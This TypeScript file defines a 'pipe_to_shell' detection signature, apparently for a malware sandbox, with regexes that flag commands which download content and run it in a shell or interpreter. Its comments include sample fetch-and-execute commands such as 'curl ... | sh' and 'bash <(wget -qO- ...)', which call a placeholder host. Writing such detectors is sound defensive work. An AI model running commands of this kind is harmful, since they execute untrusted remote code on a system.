import { RuleSignature } from '../rule-signature.js';
import type { SignatureInfo } from '../signature.js';

const FETCHERS = '(curl|wget|fetch|tftp|lwp-download|lynx\\s+-source)';
const RUNNERS = '(sudo\\s+)?(\\S*\\/)?((ba|da|z|k|a)?sh|python[0-9.]*|perl|ruby|php)';

export class PipeToShell extends RuleSignature {
  readonly info: SignatureInfo = {
    name: 'pipe_to_shell',
    description: 'Runs downloaded content directly in a shell or interpreter (curl | sh)',
    severity: 4,
    categories: ['downloader'],
    ttp: ['T1105', 'T1059.004'],
  };

  constructor() {
    super({
      commandLines: [
        // curl -s http://x/i.sh | sh
        new RegExp(`\\b${FETCHERS}\\b[^|;&]*\\|\\s*${RUNNERS}\\b`),
        // sh -c "$(curl -fsSL http://x)", bash <(wget -qO- http://x), eval "$(curl ...)"
        new RegExp(`(\\b((ba|da|z|k|a)?sh)\\s+(-c\\s+)?["']?|\\beval\\s+["']?|\\bsource\\s+|\\.\\s+)(\\$\\(|<\\(|\`)\\s*${FETCHERS}\\b`),
      ],
    });
  }
}
